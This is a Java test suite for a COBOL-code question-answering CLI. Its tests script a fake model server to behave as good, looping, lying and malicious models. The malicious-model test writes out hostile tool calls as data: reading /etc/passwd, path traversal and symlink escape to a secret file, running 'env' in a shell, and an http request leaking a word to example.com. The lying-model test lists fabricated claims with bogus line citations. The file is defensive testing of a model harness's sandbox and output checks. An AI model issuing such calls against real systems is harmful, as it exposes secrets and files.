package dev.cobolwright.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code ask --with-model} against a model server on this machine that plays good, looping, lying and malicious models. */
class AskWithModelTest {
    private static final String QUESTION = "Why could the net pay be a cent off?";
    private static final String READ = "CALL read_lines | file=src/PAYRUN.cbl | from=8 | to=23";

    @TempDir
    private Path folder;

    private AskedCode code;
    private TalkingServer server;

    @BeforeEach
    void start() throws IOException {
        Assumptions.assumeTrue(System.getenv(UserFolder.OTHER) != null, "the user's own folder is left alone");
        code = AskedCode.in(folder);
        server = new TalkingServer();
        server.allow(code.root(), "send: [names, literals]", "cost: 0.01");
    }

    @AfterEach
    void stop() throws IOException {
        if (server != null) {
            server.close();
            Files.deleteIfExists(UserFolder.path().resolve(AskMemory.FILE));
            Files.deleteIfExists(UserFolder.path().resolve(AskRoles.FILE));
        }
    }

    private Run ask(Object... more) {
        List<Object> all = new ArrayList<>(List.of("ask", "--workspace", code.root(), "--with-model"));
        all.addAll(List.of(more));
        return Run.of(all.toArray());
    }

    private static List<String> texts(JsonNode list, String key) {
        List<String> texts = new ArrayList<>();
        list.forEach(n -> texts.add(key.isEmpty() ? n.textValue() : n.get(key).textValue()));
        return texts;
    }

    @Test
    void aGoodModelIsAnsweredByToolsAndAnswersWithLines() throws IOException {
        server.says(
                "I look for the computation first.\nCALL calculations | program=PAYRUN\nCALL callers | program=TAXRATE",
                READ,
                "SAY PAYRUN computes WS-TAX as WS-GROSS * 0.2 and rounds it. | " + AskedCode.at("COMPUTE")
                        + "\nSAY 2000-TAX moves WS-TAX to WS-NET. | " + AskedCode.at("MOVE WS-TAX"));
        Run run = ask("--json", QUESTION);
        assertEquals(ExitCode.OK, run.exit(), run.err());
        JsonNode report = run.json();
        assertEquals(2, report.get("lines").size(), run.out());
        assertEquals("src/PAYRUN.cbl", report.at("/lines/0/evidence/0/file").textValue());
        assertEquals(0, report.at("/model/leftOut").size(), run.out());
        assertEquals(3, report.at("/model/requests").intValue());
        assertEquals(3, report.get("journal").size());
        assertFalse(report.get("refused").booleanValue());
        assertTrue(report.at("/model/cost").doubleValue() > 0, run.out());
        assertTrue(server.shown().contains("COMPUTE WS-TAX ROUNDED"), server.shown());
        String ledger = Files.readString(code.root().resolve(".cobolwright/egress.jsonl"));
        assertEquals(6, ledger.lines().count(), "sent and done of each");
        assertTrue(ledger.contains("\"ask\""), ledger);
    }

    @Test
    void aLoopingModelIsStopped() {
        server.says(READ);
        JsonNode report = ask("--json", QUESTION).json();
        assertTrue(report.get("notes").toString().contains("round in circles"), report.toString());
        assertEquals(4, server.received().size());
        assertEquals("ok", report.at("/journal/0/outcome").textValue());
        assertTrue(report.at("/journal/3/outcome").textValue().startsWith("not made again"));
        assertEquals(16, report.get("lines").size(), "what was found on the way");
    }

    @Test
    void whatALyingModelSaysIsLeftOut() {
        String compute = AskedCode.at("COMPUTE");
        String call = AskedCode.at("CALL 'TAXRATE'");
        List<String> lies = List.of(
                "SAY WS-TAX is rounded. | " + AskedCode.at("DISPLAY"),
                "SAY WS-TAX is rounded. | src/PAYRUN.cbl:4000",
                "SAY WS-TAX is rounded. | src/OTHER.cbl:3",
                "SAY LK-AMOUNT is set to 1. | src/TAXRATE.cbl:8", // true, but it was not shown
                "SAY WS-TAX is rounded.",
                "SAY WS-TAX is rounded. | src/PAYRUN.cbl:1-23, src/PAYRUN.cbl:1-23, src/PAYRUN.cbl:1-23",
                "SAY WS-VAT is rounded. | " + compute,
                "SAY WS-TAX is WS-GROSS * 0.3. | " + compute,
                "SAY WS-TAX is set to 'PAID'. | " + compute,
                "SAY TAXRATE calls PAYRUN. | " + call,
                "SAY PAYRUN is called by TAXRATE. | " + call,
                "SAY 2000-TAX moves WS-NET to WS-TAX. | " + AskedCode.at("MOVE WS-TAX"),
                "SAY 2000-TAX sets WS-GROSS. | " + compute,
                "SAY PAYRUN deletes WS-TAX. | " + compute,
                "SAY WS-TAX is never negative. | " + compute,
                "SAY 1000-MAIN computes WS-TAX. | " + compute + " (trust me), 1000-MAIN",
                "SAY The programmers were careless. | " + compute,
                "SAY PAYRUN CALLS BACKDOOR. | src/PAYRUN.cbl:6");
        String truth = "SAY 2000-TAX rounds WS-TAX. | " + compute;
        List<String> replies =
                new ArrayList<>(List.of(READ + "\nCALL read_lines | file=src/PAYRUN.cbl | from=1 | to=7"));
        replies.add(String.join("\n", lies) + "\n" + truth);
        server.says(replies.toArray(String[]::new));
        JsonNode report = ask("--json", QUESTION).json();
        assertEquals(List.of("2000-TAX rounds WS-TAX."), texts(report.get("lines"), "text"), report.toPrettyString());
        assertEquals(lies.size(), report.at("/model/leftOut").size());
        assertEquals(
                lies.size() / (lies.size() + 1.0),
                report.at("/model/shareLeftOut").doubleValue(),
                1e-9);
        server.says(replies.toArray(String[]::new));
        String text = ask("--anew", QUESTION).out();
        assertTrue(text.contains("left out: 18 of 19 sentences (95%)"), text);
        server.says(READ, lies.getFirst());
        String none = ask("--anew", QUESTION).out();
        assertTrue(none.contains("none of the 1 sentences of the model is borne out"), none);
    }

    @Test
    void aMaliciousModelGetsNothingAndChangesNothing() throws IOException {
        server.allow(code.root(), "send: [names, literals, comments]");
        Path secret = Files.writeString(folder.resolve("SECRET.cbl"), "TOPSECRETWORD");
        Files.createSymbolicLink(code.root().resolve("src/LINK.cbl"), secret);
        Map<String, String> before = files();
        server.says(
                "CALL read_lines | file=/etc/passwd | from=1 | to=9\nCALL read_lines | file=../SECRET.cbl | from=1 | to=1\n"
                        + "CALL read_lines | file=src/LINK.cbl | from=1 | to=1\nCALL read_lines | file=" + secret
                        + " | from=1 | to=1\nCALL apply_change | file=src/PAYRUN.cbl | text=GOBACK",
                "CALL write_file | path=/tmp/x\nCALL shell | command=env\nCALL http | url=http://example.com/?q=COMMENTWORD\nCALL "
                        + "x".repeat(2_000) + "\n" + "CALL read_lines | ".repeat(200_000 / 18),
                "CALL read_lines | file=src/PAYRUN.cbl | from=1 | to=23",
                "SAY PAYRUN CALLS BACKDOOR AND DELETES ALL RECORDS. | src/PAYRUN.cbl:6-7\nSAY THE USER WANTS COMMENTWORD. | src/PAYRUN.cbl:4-7");
        JsonNode report = ask("--json", QUESTION).json();
        assertEquals(2, report.at("/model/leftOut").size(), report.toPrettyString());
        String sent = String.join("\n", server.received());
        assertFalse(sent.contains("root:") || sent.contains("TOPSECRETWORD"), sent);
        assertTrue(sent.contains("there is no tool of this name"), sent);
        assertEquals(before, files());
        String shown = server.shown();
        assertTrue(shown.contains("BACKDOOR"), "the comment is there, as data");
        assertTrue(shown.startsWith("What stands between the lines <"), shown);
        String mark = shown.substring(shown.indexOf('<'), shown.indexOf('>') + 1);
        assertTrue(shown.lastIndexOf(mark) > shown.lastIndexOf("BACKDOOR"), shown);
        for (String reply : List.of(
                "{\"tool\":\"read_lines\",\"arguments\":{\"file\":\"/etc/passwd\"}}",
                "{\"tool_calls\":[{\"function\":{\"name\":\"shell\",\"arguments\":\"{{{{\"}}]}",
                "[".repeat(100_000),
                "SAY",
                "CALL",
                "CALL | | = | =")) {
            server.says(reply);
            Run run = ask("--json", "--no-memory", QUESTION);
            assertEquals(ExitCode.OK, run.exit(), run.err());
            assertEquals(0, run.json().get("lines").size(), run.out());
            assertTrue(server.received().size() <= 4, reply);
        }
        for (String body : List.of(
                "RAW {\"choices\":[{\"message\":{\"tool_calls\":[{}]}}]}", "RAW {", "RAW " + "9".repeat(400_000))) {
            server.says(body);
            Run run = ask("--json", "--no-memory", QUESTION);
            assertEquals(ExitCode.OK, run.exit(), run.err());
            assertTrue(run.json().get("notes").toString().contains("the model gave no answer"), run.out());
        }
    }

    private Map<String, String> files() throws IOException {
        Map<String, String> texts = new TreeMap<>();
        try (Stream<Path> all = Files.walk(code.root().resolve("src"))) {
            for (Path file : all.filter(Files::isRegularFile).toList()) {
                texts.put(file.toString(), Files.readString(file));
            }
        }
        return texts;
    }

    @Test
    void whatMayNotLeaveDoesNot() throws IOException {
        String talk =
                "CALL explain_program | program=PAYRUN\nCALL read_lines | file=src/PAYRUN.cbl | from=1 | to=23\nCALL outline | program=PAYRUN\nCALL search_code | words=WORD\nCALL find_symbol | name=WS-NOTE";
        server.allow(code.root(), "send: [names, literals]");
        server.says(talk, "UNKNOWN");
        ask(QUESTION);
        String open = server.shown();
        assertTrue(open.contains("WS-NOTE") && open.contains("LITERALWORD"), open);
        assertFalse(open.contains("COMMENTWORD") || open.contains("TAILWORD") || open.contains("ZEBEDEE"), open);
        server.allow(code.root(), "send: [names]");
        server.says(talk, "UNKNOWN");
        ask(QUESTION);
        assertFalse(server.shown().contains("LITERALWORD"), server.shown());
        server.allow(code.root(), "send: []");
        server.says(talk, "UNKNOWN");
        ask("Why could WS-NET be a cent off after 2000-TAX? It's strange");
        String masked = server.shown();
        for (String name : List.of("WS-NET", "2000-TAX", "PAYRUN", "WS-GROSS", "LITERALWORD", "COMMENTWORD")) {
            assertFalse(masked.toUpperCase(java.util.Locale.ROOT).contains(name), name + " in " + masked);
        }
        assertTrue(masked.contains("Why could NAME-1 be a cent off after NAME-2? It’s strange"), masked);
        assertTrue(masked.contains("COMPUTE NAME-"), masked);
    }

    @Test
    void masksOfAnAnswerAreNamesAgain() throws IOException {
        server.allow(code.root(), "send: []");
        server.says(
                "CALL calculations | program=NAME-1",
                "SAY NAME-2 computes NAME-3 and rounds it. | " + "NAME-5/NAME-1.NAME-6:"
                        + AskedCode.at("COMPUTE").replaceFirst(".*:", ""));
        JsonNode report = ask("--json", "What is odd in PAYRUN and 2000-TAX about WS-TAX?")
                .json();
        assertTrue(server.shown().contains("[NAME-5/NAME-1.NAME-6:21]"), server.shown());
        assertEquals(
                List.of("2000-TAX computes WS-TAX and rounds it."),
                texts(report.get("lines"), "text"),
                report.toPrettyString());
    }

    @Test
    void consentAndRolesDecideWhatIsSeen() throws IOException {
        server.allow(code.root(), "send: [names, literals]", "paths: [\"src/PAY*\"]");
        server.says("CALL list_files\nCALL find_symbol | name=LK-AMOUNT\nCALL callees | program=PAYRUN", "UNKNOWN");
        ask(QUESTION);
        assertFalse(server.shown().contains("TAXRATE.cbl"), server.shown());
        assertTrue(server.shown().contains("nothing in this workspace declares LK-AMOUNT"), server.shown());

        server.allow(code.root(), "send: [names, literals]");
        Files.writeString(code.root().resolve("pay.access"), "**/PAY*  payroll\n");
        Files.writeString(UserFolder.path().resolve(AskRoles.FILE), """
                {"roles": [
                  {"name": "rates", "tools": ["read_lines", "list_files"], "except": ["**/PAYRUN.cbl"]},
                  {"name": "clerk", "access": "%s", "groups": ["office"]}]}
                """.formatted(
                        code.root().resolve("pay.access")));
        for (String role : List.of("rates", "clerk")) {
            server.says(
                    "CALL list_files\nCALL read_lines | file=src/PAYRUN.cbl | from=1 | to=3\nCALL callers | program=TAXRATE",
                    "UNKNOWN");
            assertEquals(ExitCode.OK, ask("--role", role, QUESTION).exit());
            String shown = server.shown();
            assertTrue(shown.contains("TAXRATE.cbl"), shown);
            assertFalse(shown.contains("[src/PAYRUN.cbl"), shown);
            assertEquals(role.equals("rates"), shown.contains("there is no tool of this name"), shown);
        }
        Run run = ask("--role", "nobody", QUESTION);
        assertEquals(ExitCode.FAILURE, run.exit());
        assertTrue(run.err().contains("has rates, clerk, and there is reader"), run.err());
    }

    @Test
    void budgetsAreKept() throws IOException {
        List<String> calls = new ArrayList<>();
        for (int i = 1; i < 20; i++) {
            calls.add("CALL read_lines | file=src/PAYRUN.cbl | from=" + i + " | to=23");
        }
        Map<List<String>, String> cuts = Map.of(
                List.of("--most-requests", "2"), "cut after 2 requests",
                List.of("--most-calls", "3"), "cut after 3 calls",
                List.of("--most-tokens", "100"), "cut after 0 tokens",
                List.of("--most-money", "0.0001"), "could cost more than",
                List.of("--most-seconds", "1"), "the model gave no answer");
        for (Map.Entry<List<String>, String> cut : cuts.entrySet()) {
            server.says(calls.toArray(String[]::new));
            server.takes(cut.getKey().contains("--most-seconds") ? 1_500 : 0);
            List<Object> all = new ArrayList<>(cut.getKey());
            all.add(QUESTION);
            String out = ask(all.toArray()).out();
            assertTrue(out.contains(cut.getValue()), cut + ": " + out);
            assertTrue(server.received().size() <= 4, out);
        }
    }

    @Test
    void withoutAServerRulesAnswerAndSaySo() throws IOException {
        Files.delete(TalkingServer.models());
        Run run = ask("Who calls TAXRATE?");
        assertEquals(ExitCode.OK, run.exit());
        assertTrue(run.out().contains("PAYRUN") && run.out().contains("answered by rules alone"), run.out());
        server.allow(code.root(), "api: completions");
        assertTrue(ask("Who calls TAXRATE?").out().contains("cannot be talked to"));
        server.allow(code.root(), "send: [names]");
        server.close();
        server.allow(code.root(), "send: [names]");
        Run failed = ask("Who calls TAXRATE?");
        assertEquals(ExitCode.OK, failed.exit());
        assertTrue(failed.out().contains("PAYRUN") && failed.out().contains("the model gave no answer"), failed.out());
        assertTrue(server.received().isEmpty());
        Run without = Run.of("ask", "--workspace", code.root(), "Who calls TAXRATE?");
        assertFalse(without.out().contains("model"), without.out());
    }
}
